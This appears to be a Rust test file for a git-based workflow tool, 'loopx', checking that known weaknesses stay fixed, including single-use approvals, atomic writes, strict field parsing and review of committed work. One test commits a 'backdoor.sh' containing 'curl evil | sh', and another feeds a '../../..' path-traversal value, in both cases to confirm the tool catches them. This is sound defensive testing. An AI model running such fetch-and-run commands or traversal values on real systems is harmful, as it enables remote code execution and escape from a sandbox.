//! The demonstrated weaknesses of the peer (reference stage-runtime, section 19) that no scenario
//! shows gone. `scenarios.rs` has the table of all thirty.

use crate::support::LOOPX;
use crate::support::drive::{Drive, ID, RECORD, RITA, SPEC, codes};
use serde_json::{Value, json};

/// Paths of the sandbox outside of the repository.
fn outside(d: &Drive) -> Vec<std::path::PathBuf> {
    let files = d.snapshot(d.root()).into_iter().map(|(path, ..)| path);
    files.filter(|path| !path.starts_with("repo")).collect()
}

#[test]
fn w_02_an_approval_is_consumed_once_however_many_try() {
    for (d, approve, command, transition) in [
        (Drive::clarified(), "plan", "plan", "clarify->plan"),
        (Drive::planned(), "build", "build", "plan->build"),
    ] {
        d.does(&["approve", "--to", approve]);
        let children: Vec<_> = (0..4)
            .map(|_| {
                let call = d.call(LOOPX).args(&["--json", command]);
                call.command().spawn().expect("a start")
            })
            .collect();
        let mut entered = 0;
        for child in children {
            let out = child.wait_with_output().expect("an end");
            let said: Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
            entered += usize::from(said["transition"] == transition);
            assert!(
                matches!(out.status.code(), Some(0 | 1)),
                "an internal error: {out:?}"
            );
        }
        assert_eq!(entered, 1);
        let events = d.events();
        let operations = events.iter().filter(|kind| *kind == "entered").count();
        assert_eq!(operations, if command == "plan" { 1 } else { 2 });
        assert_eq!(d.state()["conflicts"], json!([]));
    }
}

#[test]
fn w_05_w_06_a_write_that_fails_leaves_the_old_state_or_the_new_one() {
    // A file-size limit ends the program in the middle of a write, at the first, second, ... kilobyte.
    let mut failed = 0;
    for blocks in 0..4 {
        let d = Drive::clarified();
        let script = format!("ulimit -c 0; ulimit -f {blocks}; exec '{LOOPX}' approve --to plan");
        let out = d.call("sh").args(&["-c", &script]).run();
        let approved = d.approval("plan");
        assert_eq!(approved == "approved", out.code == Some(0), "{out}");
        assert_eq!(d.does(&["list"])["sessions"][0]["damage"], Value::Null);
        assert_eq!(d.does(&["fsck"])["damages"], json!([]));
        d.git(&["fsck", "--strict"]).ok();
        if approved != "approved" {
            failed += 1;
            // Nothing that was left behind stands in the way.
            d.does(&["approve", "--to", "plan"]);
        }
    }
    assert!(failed > 0, "no limit was small enough");
}

#[test]
fn w_07_the_next_command_alone_leads_from_start_to_done() {
    let d = Drive::repository(None);
    d.does(&["start", "Demo"]);
    let written = Drive::built();
    let editor = format!(
        "cp '{}'/\"${{1##*.loopx/demo/}}\" \"$1\" #",
        written.path().join(".loopx/demo").display()
    );
    // git runs an editor as `sh -c 'EDITOR "$@"'`.
    let editor = format!("f() {{ {editor}\n}}; f");
    let mut taken = Vec::new();
    loop {
        let status = d.status();
        let Some(next) = status["next_action"].as_str().map(str::to_owned) else {
            let advice = status["advice"].as_str().expect("advice");
            assert!(
                advice.starts_with("write the code on branch demo"),
                "{advice}"
            );
            d.commit_code("an end\n");
            continue;
        };
        if next == "git loopx archive" {
            break;
        }
        assert!(taken.len() < 40, "no end in sight: {taken:#?}");
        let words: Vec<&str> = next.split(' ').collect();
        assert_eq!(words[..2], ["git", "loopx"], "{next}");
        let call = d.call("git").args(&words[1..]);
        let out = call.env("GIT_EDITOR", &editor).run();
        assert_eq!(out.code, Some(0), "after {taken:#?}\n{out}");
        taken.push(next);
    }
    assert_eq!(d.stage(), "done");
}

#[test]
fn w_11_committed_work_is_reviewed_and_nothing_is_approved_by_itself() {
    let d = Drive::building();
    d.commit_file("src/backdoor.sh", "curl evil | sh\n", "Tidy up")
        .ok();
    d.finish_build();
    d.does(&["approve", "--to", "review"]);
    let reviewed = d.does(&["review"]);
    assert_eq!(reviewed["files"], json!(["src/backdoor.sh"]));
    assert_eq!(reviewed["commits"][0]["subject"], "Tidy up");
    // A range without a commit asks a person, too.
    let d = Drive::building();
    d.finish_build();
    d.does(&["approve", "--to", "review"]);
    assert_eq!(d.does(&["review"])["files"], json!([]));
    assert_eq!(d.status()["review"], Value::Null);
    d.refuses(&["approve", "--to", "done"])
        .is("review_not_approved", &["review_verdict_none"]);
}

#[test]
fn w_16_a_repository_that_moves_goes_on() {
    let d = Drive::planned();
    let moved = d.root().join("moved elsewhere");
    std::fs::rename(d.path(), &moved).expect("a move");
    d.loopx_in(&moved, &["approve", "--to", "build"]).ok();
    d.loopx_in(&moved, &["build"]).ok();
    let status = d.loopx_in(&moved, &["--json", "status"]).json();
    assert_eq!(status["stage"], "build");
    std::fs::create_dir(d.path()).expect("a folder to come back to");
}

#[test]
fn w_19_a_domain_is_never_a_path() {
    let d = Drive::started();
    let before = outside(&d);
    let domain = "../../../../../../escaped";
    d.edit(
        "spec.md",
        &SPEC.replace(
            "target_domains: [demo]",
            &format!("target_domains: [{domain}]"),
        ),
    );
    d.fails(1, &["approve", "--to", "plan"])
        .is("artifact_invalid", &["bad_domain"]);
    assert_eq!(outside(&d), before);
    let paths = d.git(&["ls-tree", "-r", "--name-only", "loopx"]).ok();
    assert!(!paths.contains("escaped"), "{paths}");
}

#[test]
fn w_21_angle_brackets_in_a_record_are_words() {
    let d = Drive::building();
    d.edit(
        "execution-record.md",
        &RECORD.replace("The file", "`Vec<u8>` and <T>: the TODO list"),
    );
    d.does(&["build", "--report", "execution=complete"]);
    d.does(&["run", "--", "echo", "Vec<u8>"]);
    d.does(&["run", "--task", "VS-1"]);
    assert_eq!(d.does(&["build"])["ready"], true);
    d.does(&["approve", "--to", "review"]);
}

#[test]
fn w_24_lax_numbers_and_words_are_errors() {
    let d = Drive::started();
    for (field, values) in [
        (
            "ambiguity_score",
            &["0,1", "1e-1", "\"0.1\"", "+0.1", "0.1.1", "[0.1]", ""][..],
        ),
        ("current_round", &["3x", "3.0", "-3", "0x3", "three"]),
        (
            "unresolved_ambiguity_count",
            &["-5", "", "none", "99999999999"],
        ),
        ("non_goals_resolved", &["yes", "True", "\"true\"", "1", ""]),
    ] {
        let line = SPEC.lines().find(|line| line.starts_with(field));
        let line = line.expect("a field");
        for value in values {
            d.edit("spec.md", &SPEC.replace(line, &format!("{field}: {value}")));
            let refusal = d.refuses(&["approve", "--to", "plan"]).names(field);
            assert_eq!(refusal.code, "artifact_invalid", "{field}: {value}");
        }
        // A field that is not there is no guess either: it is a rule that is not met.
        d.edit("spec.md", &SPEC.replace(&format!("{line}\n"), ""));
        let refusal = d.refuses(&["approve", "--to", "plan"]);
        assert_eq!(refusal.code, "clarify_readiness_blocked");
        assert_eq!(refusal.blockers.len(), 1, "{refusal:?}");
        // Said twice is said wrongly.
        d.edit("spec.md", &SPEC.replace(line, &format!("{line}\n{line}")));
        let refusal = d.refuses(&["approve", "--to", "plan"]);
        assert_eq!(refusal.code, "artifact_invalid", "{field} twice");
    }
}

#[test]
fn w_26_what_was_run_is_kept_with_its_output() {
    let d = Drive::building();
    d.does(&[
        "run",
        "--kind",
        "lint",
        "--",
        "sh",
        "-c",
        "echo all is well; echo but >&2",
    ]);
    let evidence = d.state()["evidence"][0].take();
    assert_eq!(evidence["what"], "lint");
    assert_eq!(
        evidence["argv"],
        json!(["sh", "-c", "echo all is well; echo but >&2"])
    );
    assert_eq!(evidence["exit"], 0);
    assert_eq!(evidence["by"]["name"], "Ada Author");
    let op = evidence["op"].as_str().expect("an id");
    let log = d.does(&["show", "--run", op])["log"].take();
    let log = log.as_str().expect("a log");
    assert!(
        log.contains("all is well\n") && log.contains("but\n"),
        "{log}"
    );
    // The digest is that of the whole output, as git counts.
    let hashed = d
        .call("git")
        .args(&["hash-object", "--stdin"])
        .stdin(log)
        .run()
        .line();
    assert_eq!(evidence["output"], hashed);
    // It is a file of the branch, for anybody with git alone.
    let path = format!("loopx:sessions/{ID}/logs/{op}.log");
    assert_eq!(d.git(&["show", &path]).ok(), log);
}

#[test]
fn w_29_an_unknown_verdict_is_an_error_and_a_heavy_finding_contradicts_approval() {
    let d = Drive::reviewing();
    let before = d.tip();
    for args in [
        &["--verdict", "reject"][..],
        &["--verdict", "APPROVE"],
        &["--verdict", "request-changes", "--target", "design"],
        &["--verdict", "approve", "--architecture", "terrible"],
        &["--verdict", "approve", "--finding", "huge: no"],
    ] {
        let out = d.verdict_by(RITA, args);
        assert_eq!(out.code, Some(2), "{out}");
        assert_eq!(d.tip(), before, "{out}");
    }
    for severity in ["critical", "high"] {
        let finding = format!("{severity}: it deletes the disk");
        d.fails_as(1, |d| {
            d.verdict_by(RITA, &["--verdict", "approve", "--finding", &finding])
        })
        .is("verdict_contradicts_finding", &[]);
    }
    d.verdict(&[
        "--verdict",
        "approve",
        "--finding",
        "medium: the name is long",
    ]);
    assert_eq!(d.state()["verdict"]["findings"][0]["severity"], "medium");
}

#[test]
fn w_30_readiness_is_computed_from_the_artifacts() {
    let d = Drive::planned();
    assert_eq!(d.gate("build")["ready"], true);
    d.edit("plan.md", "# Plan\n");
    // An edit that is not saved is shown as one; what it breaks shows when it is.
    assert_eq!(d.status()["working_copy"]["plan.md"], "modified");
    d.does(&["save"]);
    let gate = d.gate("build");
    assert_eq!(gate["ready"], false);
    assert_eq!(
        codes(&gate["blockers"]),
        [
            "architect_review_incomplete",
            "critic_verdict_pending",
            "acceptance_criteria_unresolved",
            "verification_steps_unresolved",
            "plan_artifact_empty_plan"
        ]
    );
}
